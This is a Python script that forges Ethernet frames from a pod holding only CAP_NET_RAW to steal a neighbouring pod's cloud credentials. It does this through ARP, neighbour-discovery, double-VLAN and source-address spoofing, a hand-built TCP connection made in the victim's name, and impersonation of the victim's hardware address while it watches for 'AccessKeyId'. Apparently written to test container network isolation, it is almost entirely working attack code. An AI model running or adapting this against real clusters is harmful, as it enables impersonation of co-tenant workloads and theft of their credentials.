"""A pod that forges frames, with no right but CAP_NET_RAW: tries to get its neighbour's credentials.

spoof.py ATTACK VICTIM GATEWAY TARGET PATH SECONDS
  arp     claims the victim's address by ARP, then opens a connection in its name
  ndp     the same by neighbour discovery
  ndp-options, ndp-solicit, ndp-router   the same, in other messages
  vlan    as arp, the claim in two tags of VLAN 0
  source  opens a connection in its name, and claims nothing
  mac=..  wears the victim's hardware address and listens to what is sent there
  probe   no attack: asks whether the victim's address is in use (RFC 5227)
Prints what came back.
"""

import os
import random
import re
import select
import socket
import struct
import subprocess
import sys
import time

IFACE = "eth0"
ARP, IPV4, IPV6, VLAN = 0x0806, 0x0800, 0x86DD, 0x8100
SYN, ACK, PSH, FIN, RST = 2, 16, 8, 1, 4


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_bytes(text):
    return bytes(int(byte, 16) for byte in text.split(":"))


def packed(address):
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def gateway_mac(gateway):
    """As the kernel has it, after something was sent there."""
    family = socket.AF_INET6 if ":" in gateway else socket.AF_INET
    for _ in range(50):
        with socket.socket(family, socket.SOCK_DGRAM) as knock:
            knock.sendto(b"x", (gateway, 9))
        time.sleep(0.1)
        neighbours = subprocess.run(["ip", "neigh", "show", gateway], capture_output=True, text=True).stdout
        found = re.search(r"lladdr ([0-9a-f:]{17})", neighbours)
        if found:
            return mac_bytes(found.group(1))
    sys.exit("the gateway does not answer")


class Forger:
    def __init__(self, attack, victim, gateway, target):
        self.attack, self.victim, self.target = attack, packed(victim), packed(target)
        self.v6 = len(self.victim) == 16
        self.gateway = packed(gateway)
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((IFACE, 0))
        self.mac = self.socket.getsockname()[4]
        self.gateway_mac = gateway_mac(gateway)

    def frame(self, ethertype, payload, source=None, destination=None):
        head = (destination or self.gateway_mac) + (source or self.mac)
        self.socket.send(head + struct.pack("!H", ethertype) + payload)

    def ip(self, protocol, payload, source=None, destination=None, hops=64):
        source, destination = source or self.victim, destination or self.target
        if self.v6:
            return struct.pack("!IHBB", 6 << 28, len(payload), protocol, hops) + source + destination + payload
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, hops, protocol, 0, source, destination)
        return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload

    def pseudo(self, protocol, payload, source, destination):
        if self.v6:
            return source + destination + struct.pack("!II", len(payload), protocol) + payload
        return source + destination + struct.pack("!BBH", 0, protocol, len(payload)) + payload

    # === claims ===

    def claim(self):
        if self.attack.startswith("ndp"):
            return self.claim_by_discovery()
        for operation in (1, 2):
            arp = struct.pack("!HHBBH", 1, IPV4, 6, 4, operation) + self.mac + self.victim
            arp += self.gateway_mac + self.gateway
            if self.attack == "vlan":
                arp = struct.pack("!HHHH", 0, VLAN, 0, ARP) + arp
                self.frame(VLAN, arp)
            elif self.attack == "arp":
                self.frame(ARP, arp)

    def claim_by_discovery(self):
        ours = struct.pack("!BB", 2 if self.attack in ("ndp", "ndp-options") else 1, 1) + self.mac
        if self.attack == "ndp-solicit":
            message, source = struct.pack("!BBHI", 135, 0, 0, 0) + self.gateway + ours, self.victim
        elif self.attack == "ndp-router":
            message, source = struct.pack("!BBHI", 133, 0, 0, 0) + ours, self.victim
        else:
            # Solicited and override, as the answer to a question.
            message, source = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + self.victim + ours, self.victim
        total = checksum(self.pseudo(58, message, source, self.gateway))
        message = message[:2] + struct.pack("!H", total) + message[4:]
        if self.attack == "ndp-options":
            # Destination options with nothing in them before the message.
            options = struct.pack("!BBBB4s", 58, 0, 1, 4, b"\0" * 4)
            return self.frame(IPV6, self.ip(60, options + message, source, self.gateway, 255))
        self.frame(IPV6, self.ip(58, message, source, self.gateway, 255))

    # === a connection in the victim's name ===

    def tcp(self, port, sequence, acknowledged, flags, data=b""):
        head = struct.pack("!HHIIBBHHH", port, 80, sequence, acknowledged, 5 << 4, flags, 65535, 0, 0)
        total = checksum(self.pseudo(6, head + data, self.victim, self.target))
        segment = head[:16] + struct.pack("!H", total) + head[18:] + data
        self.frame(IPV6 if self.v6 else IPV4, self.ip(6, segment))

    def segment(self, frame):
        """(port, sequence, acknowledged, flags, data) of a segment from the target to the victim."""
        if len(frame) < 54 or struct.unpack("!H", frame[12:14])[0] != (IPV6 if self.v6 else IPV4):
            return None
        packet = frame[14:]
        if self.v6:
            addresses, protocol, start = (packet[8:24], packet[24:40]), packet[6], 40
            end = 40 + struct.unpack("!H", packet[4:6])[0]
        else:
            addresses, protocol, start = (packet[12:16], packet[16:20]), packet[9], (packet[0] & 15) * 4
            end = struct.unpack("!H", packet[2:4])[0]
        if addresses != (self.target, self.victim) or protocol != 6:
            return None
        tcp = packet[start:end]
        _, port, sequence, acknowledged, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
        return port, sequence, acknowledged, flags, tcp[(offset >> 4) * 4 :]

    def connection(self, request, until):
        """One connection; claims go on meanwhile, as the victim answers for itself."""
        port, ours, answer = 20000 + os.getpid() % 20000 + int(time.time() * 10) % 5000, 1000, b""
        sent, theirs, claimed = False, None, 0.0
        self.claim()
        time.sleep(0.05)
        self.tcp(port, ours, 0, SYN)
        while time.time() < until:
            if time.time() - claimed > 0.05:
                self.claim()
                claimed = time.time()
            if not select.select([self.socket], [], [], 0.02)[0]:
                continue
            seen = self.segment(self.socket.recv(65536))
            if not seen or seen[0] != port:
                continue
            _, sequence, _, flags, data = seen
            if flags & RST:
                return answer
            if flags & SYN and not sent:
                sent, theirs = True, sequence + 1
                self.tcp(port, ours + 1, theirs, ACK)
                self.tcp(port, ours + 1, theirs, ACK | PSH, request)
            elif sent and sequence == theirs:
                answer += data
                theirs += len(data) + (1 if flags & FIN else 0)
                self.tcp(port, ours + 1 + len(request), theirs, ACK)
                if flags & FIN:
                    return answer
        return answer

    # === the victim's hardware address ===

    def listen_as(self, mac, until):
        heard = b""
        while time.time() < until and b"AccessKeyId" not in heard:
            # An experimental ethertype: all that matters is where it comes from.
            self.frame(0x88B5, b"\0" * 46, source=mac)
            # Too often, and the victim's connection is not even made; too seldom, and its answer gets through.
            pause = time.time() + random.uniform(0.0002, 0.01)
            while select.select([self.socket], [], [], max(0, pause - time.time()))[0]:
                seen = self.segment(self.socket.recv(65536))
                heard += seen[4] if seen else b""
        return heard

    # === what honest pods do ===

    def probe(self, until):
        probe = struct.pack("!HHBBH", 1, IPV4, 6, 4, 1) + self.mac + b"\0" * 4 + b"\0" * 6 + self.victim
        while time.time() < until:
            self.frame(ARP, probe, destination=b"\xff" * 6)
            while select.select([self.socket], [], [], 0.2)[0]:
                frame = self.socket.recv(65536)
                if frame[12:14] == struct.pack("!H", ARP) and frame[20:22] == b"\0\2" and frame[28:32] == self.victim:
                    return b"in use"
        return b""


def main():
    attack, victim, gateway, target, path, seconds = sys.argv[1:]
    forger = Forger(attack, victim, gateway, target)
    until = time.time() + float(seconds)
    if attack.startswith("mac="):
        heard = forger.listen_as(mac_bytes(attack[4:]), until)
    elif attack == "probe":
        heard = forger.probe(until)
    else:
        host = "[%s]" % target if ":" in target else target
        request = "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)
        heard = b""
        while not heard and time.time() < until:
            heard = forger.connection(request.encode(), min(until, time.time() + 1.5))
    sys.stdout.write(heard.decode("latin-1"))


main()
